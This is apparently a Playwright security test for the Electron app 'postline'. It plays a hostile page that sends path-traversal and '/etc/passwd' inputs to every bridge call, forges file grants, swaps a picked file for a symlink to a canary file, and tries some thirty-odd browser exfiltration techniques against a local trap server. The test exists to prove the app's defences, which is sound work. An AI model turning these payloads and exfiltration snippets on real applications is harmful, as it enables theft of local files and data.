import { randomUUID } from 'node:crypto';
import { readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from '@playwright/test';
import { startPracticeService } from '../../electron/practice/start-practice-service.ts';
import { contract } from '../../shared/contract/contract.ts';
import { part, type Part, type Program, rowOfParts } from '../rows/row.ts';
import { account } from '../support/account.ts';
import { connect } from '../support/connect-page.ts';
import { openChat } from '../support/conversation.ts';
import { instanceOf } from '../support/page-calls.ts';
import type { Running } from '../support/postline.ts';
import { type AttackedHost, onHosts } from './on-hosts.ts';
import { findSecret } from './spellings.ts';
import { startTrap, type Trap } from './trap.ts';

/** What stands in a file that no page may have. */
const secret = 'canary-of-a-file-5b1c';
/** Calls that end the attack itself. */
const leftOut = /^(instances\.(remove|usePractice)|practice\.|app\.quit|quitting\.)/;

/**
 * S2: a page in an attacker's hands: every call with foreign ids and paths, made-up grants, a file exchanged after it was picked, and
 * every way out that a page has. The trap is asked nothing, no window is opened, no file appears, no byte of the canary file is seen.
 */
export const pageInOurHands: Program = async (plan) => {
  const { parts, skipped } = await onHosts(plan, attacksOn);
  return rowOfParts(
    `${Object.keys(contract).length} calls by 6 inputs, ${Object.keys(waysOut).length} ways out, grants and frames`,
    plan.seed,
    parts,
    skipped,
  );
};

async function attacksOn(host: AttackedHost): Promise<Part[]> {
  const canaryFile = join(host.outside, 'canary.txt');
  writeFileSync(canaryFile, secret);
  const trap = await startTrap();
  const service = await startPracticeService({ ...account, typingMs: 0, keepsContent: true });
  const running = await host.start();
  const { page } = running;
  try {
    await connect(page, service);
    await openChat(page, '+4915112345678');
    // A person closes every dialog of the system.
    await running.electron?.evaluate(({ dialog, app }) => {
      Object.assign(dialog, {
        showOpenDialog: () => Promise.resolve({ canceled: true, filePaths: [] }),
        showSaveDialog: () => Promise.resolve({ canceled: true }),
        showMessageBox: () => Promise.resolve({ response: 0 }),
      });
      Object.assign(app, { quit: () => {}, exit: () => {} });
    });
    const filesBefore = listOf(host.outside);
    const parts = [
      await part('every call', () => everyCall(page, canaryFile, trap)),
      await part('grants', () => grants(page)),
      await part('a file exchanged after it was picked', () => exchanged(host, page, canaryFile)),
      await part('ways out', () => leave(page, trap)),
      await part('frames and windows', () => frames(running, trap)),
    ];
    const sent = service.log.map((entry) => JSON.stringify(entry)).join('\n');
    parts.push(
      await part('what was there before', async () => [
        ...(trap.requests() > 0 ? [`the trap was asked: ${trap.bytes().slice(0, 300)}`] : []),
        ...(listOf(host.outside) === filesBefore ? [] : ['there are other files outside']),
        ...findSecret(secret, [['what the service was sent', Buffer.from(sent)]]),
      ]),
    );
    if (host.context !== null) parts.push(await part('the ways are real', () => waysAreReal(host)));
    return parts;
  } finally {
    trap.close();
    await running.kill();
    await service.close();
  }
}

const listOf = (folder: string): string =>
  readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((name) => !name.startsWith('picked'))
    .toSorted()
    .join('\n');

async function everyCall(page: Page, canaryFile: string, trap: Trap): Promise<string[]> {
  const instanceId = await instanceOf(page);
  const strings = [
    canaryFile,
    `../../../../../../..${canaryFile}`,
    pathToFileURL(canaryFile).href,
    `${trap.origin}/v1`,
    randomUUID(),
    '__proto__',
  ];
  const calls = Object.entries(contract)
    .filter(([name]) => !leftOut.test(name))
    .flatMap(([name, { input }]) => {
      const fields = Object.keys((input as { shape?: object }).shape ?? {});
      return strings.map((value) => {
        const hostile = Object.fromEntries(fields.map((field) => [field, value]));
        return [name, { ...hostile, ...('instanceId' in hostile && { instanceId }) }] as const;
      });
    });
  const answers = await page.evaluate(async (all) => {
    const texts: string[] = [];
    for (const [name, input] of all) {
      const late = new Promise((resolve) => setTimeout(() => resolve('late'), 15_000));
      const answer = window.postline.call(name as never, input as never).catch(String);
      texts.push(`${name} ${JSON.stringify(await Promise.race([answer, late]))}`);
    }
    return texts;
  }, calls);
  // An answer that says what was asked for holds the file's name, and none its content.
  return [
    ...findSecret(secret, [['an answer', Buffer.from(answers.join('\n'))]]),
    ...answers.filter((answer) => answer.endsWith(' "late"')).map((answer) => `${answer}: no end`),
    ...answers.filter((answer) => /\bat .*\.(ts|cjs|js):\d+/.test(answer)).slice(0, 3),
    ...(trap.requests() > 0 ? [`a call reached the trap: ${trap.bytes().slice(0, 200)}`] : []),
  ];
}

async function grants(page: Page): Promise<string[]> {
  const instanceId = await instanceOf(page);
  return page.evaluate(
    async ([id, known]) => {
      const wrong: string[] = [];
      const made = await window.postline
        .grant([
          new File(['made'], '/etc/passwd'),
          { path: '/etc/passwd', name: 'passwd' } as unknown as File,
          '/etc/passwd' as unknown as File,
        ])
        .catch(() => []);
      const ids = [...made, id, '../etc/passwd', '/etc/passwd'].filter((one) => one !== null);
      for (const grantId of ids.slice(-3)) {
        for (const [name, input] of [
          ['imports.open', { instanceId: known, of: 'threads', grantIds: [grantId] }],
          ['imports.open', { instanceId: known, of: 'messages', grantIds: [grantId] }],
          ['instances.readSettings', { grantId }],
          ['backups.read', { grantId }],
        ] as const) {
          const answer = await window.postline.call(name as never, input as never);
          const { ok } = answer as { ok: boolean };
          if (ok) wrong.push(`${name} took ${grantId}`);
        }
      }
      return wrong;
    },
    [randomUUID(), instanceId] as const,
  );
}

/** A person picks a file; before it is read, its name leads to the canary. */
async function exchanged(host: AttackedHost, page: Page, canaryFile: string): Promise<string[]> {
  const picked = join(host.outside, 'picked.txt');
  writeFileSync(picked, 'what the person meant');
  const instanceId = await instanceOf(page);
  await page.evaluate(() => {
    const input = document.createElement('input');
    Object.assign(input, { type: 'file', id: 'picker-of-attack' });
    document.body.append(input);
  });
  await page.locator('#picker-of-attack').setInputFiles(picked);
  const [grantId] = await page.evaluate(() => {
    const { files } = document.querySelector('#picker-of-attack') as HTMLInputElement;
    return window.postline.grant([...(files ?? [])]);
  });
  rmSync(picked);
  symlinkSync(canaryFile, picked);
  const answer = await page.evaluate(
    async (input) => {
      const first = await window.postline.call('imports.open', input as never);
      return JSON.stringify(first);
    },
    { instanceId, of: 'threads', grantIds: [grantId] },
  );
  return findSecret(secret, [['an answer', Buffer.from(answer)]]);
}

/** All that a page can ask the network for. */
const waysOut: Record<string, string> = {
  fetch: 'fetch(to)',
  'fetch without CORS': "fetch(to, { mode: 'no-cors', method: 'POST', body: 'x' })",
  request:
    "new Promise((r) => { const x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', to); x.send() })",
  beacon: "navigator.sendBeacon(to, 'x')",
  socket:
    "new Promise((r) => { const s = new WebSocket(to.replace('http', 'ws')); s.onerror = s.onopen = r })",
  events:
    'new Promise((r) => { const s = new EventSource(to); s.onerror = s.onopen = () => { s.close(); r() } })',
  image: 'new Promise((r) => { const i = new Image(); i.onload = i.onerror = r; i.src = to })',
  script: element('script', 'src'),
  style: element('link', 'href', "rel: 'stylesheet'"),
  preload: element('link', 'href', "rel: 'preload', as: 'script'"),
  prefetch: element('link', 'href', "rel: 'prefetch'"),
  manifest: element('link', 'href', "rel: 'manifest'"),
  icon: element('link', 'href', "rel: 'icon'"),
  frame: element('iframe', 'src'),
  object: element('object', 'data'),
  embed: element('embed', 'src'),
  video: element('video', 'src'),
  audio: element('audio', 'src'),
  background: "document.body.style.backgroundImage = 'url(' + to + ')'",
  'style element':
    "(() => { const s = document.createElement('style'); s.textContent = '@import url(' + to + ')'; document.head.append(s) })()",
  font: "new FontFace('x', 'url(' + to + ')').load()",
  worker: 'new Worker(to)',
  'worker of a blob':
    "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ')'])))",
  'shared worker': 'new SharedWorker(to)',
  'service worker': 'navigator.serviceWorker.register(to)',
  form: "(() => { const f = document.createElement('form'); Object.assign(f, { action: to, method: 'post', target: 'x' }); document.body.append(f); f.submit() })()",
  ping: "(() => { const a = document.createElement('a'); a.href = '#x'; a.ping = to; document.body.append(a); a.click() })()",
  module: 'import(to)',
  eval: "(0, eval)('fetch(' + JSON.stringify(to) + ')')",
  function: "new Function('fetch(' + JSON.stringify(to) + ')')()",
  'inline handler':
    "(() => { const i = document.createElement('img'); i.setAttribute('onerror', 'fetch(' + JSON.stringify(to) + ')'); i.src = 'data:x'; document.body.append(i) })()",
  markup: "document.body.insertAdjacentHTML('beforeend', '<img src=' + to + '>')",
  'script address':
    "(() => { const a = document.createElement('a'); a.href = 'javascript:fetch(' + JSON.stringify(to) + ')'; document.body.append(a); a.click() })()",
};

function element(name: string, attribute: string, more = ''): string {
  return `new Promise((r) => { const e = document.createElement('${name}'); e.onload = e.onerror = e.onloadeddata = r; Object.assign(e, { ${more} }); e.setAttribute('${attribute}', to); document.body.append(e); setTimeout(r, 100) })`;
}

/** Returns the ways by which the trap was asked: each asks for its own name. */
async function takeWays(page: Page, trap: Trap): Promise<string[]> {
  for (const [name, code] of Object.entries(waysOut)) {
    const to = `${trap.origin}/${encodeURIComponent(name)}`;
    // By the debugger, which no content policy keeps from running it.
    await page
      .evaluate(
        `(async () => { const to = ${JSON.stringify(to)}; try { await Promise.race([${code}, new Promise((r) => setTimeout(r, 300))]) } catch {} })()`,
      )
      .catch(() => {});
  }
  const asked = trap.bytes();
  return Object.keys(waysOut).filter((name) => asked.includes(`/${encodeURIComponent(name)} HTTP`));
}

async function leave(page: Page, trap: Trap): Promise<string[]> {
  return (await takeWays(page, trap)).map((name) => `${name} reached the trap`);
}

/** The same on a page of another server without a content policy: what cannot be done there proves nothing. */
async function waysAreReal({ context }: AttackedHost): Promise<string[]> {
  const trap = await startTrap();
  const own = await startTrap('<!doctype html><title>x</title><body>');
  const page = await context?.newPage();
  if (page === undefined) return ['no page'];
  await page.goto(own.origin);
  const taken = await takeWays(page, trap);
  await page.close();
  trap.close();
  own.close();
  return taken.length < 20 ? [`only ${taken.length} ways lead out: ${taken.join(', ')}`] : [];
}

async function frames(running: Running, trap: Trap): Promise<string[]> {
  const { page, electron } = running;
  // In a browser a page may open a tab: there is no guard of ours.
  const targets = electron === null ? [] : ['_blank', '_top', 'x'];
  const wrong = await page.evaluate(
    async ({ to, targets: all }) => {
      const found: string[] = [];
      for (const make of [
        (frame: HTMLIFrameElement) =>
          frame.setAttribute('src', 'data:text/html,<script>top.x=1</script>'),
        (frame: HTMLIFrameElement) =>
          frame.setAttribute('src', URL.createObjectURL(new Blob(['x'], { type: 'text/html' }))),
        (frame: HTMLIFrameElement) => frame.setAttribute('src', location.origin),
        (frame: HTMLIFrameElement) => frame.setAttribute('src', to),
      ]) {
        const frame = document.createElement('iframe');
        try {
          make(frame);
        } catch {
          continue;
        }
        document.body.append(frame);
        await new Promise((resolve) => setTimeout(resolve, 200));
        try {
          const inner = frame.contentWindow as unknown as { postline?: unknown } | null;
          if (inner?.postline !== undefined) found.push('a frame has the bridge');
        } catch {
          // Another origin: the browser's own error.
        }
        frame.remove();
      }
      for (const target of all) {
        try {
          if (window.open(to, target === '_top' ? '_blank' : target, 'noopener=no') !== null)
            found.push(`a window for ${target}`);
        } catch {
          // Refused.
        }
      }
      return found;
    },
    { to: trap.origin, targets },
  );
  if (electron === null) return wrong;
  await page.evaluate((to) => void (location.href = to), trap.origin);
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
  const at = await electron.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map((window) => window.webContents.getURL()),
  );
  const astray = at.filter((address) => !address.startsWith('app://postline/'));
  return [...wrong, ...astray.map((address) => `a window at ${address}`)];
}
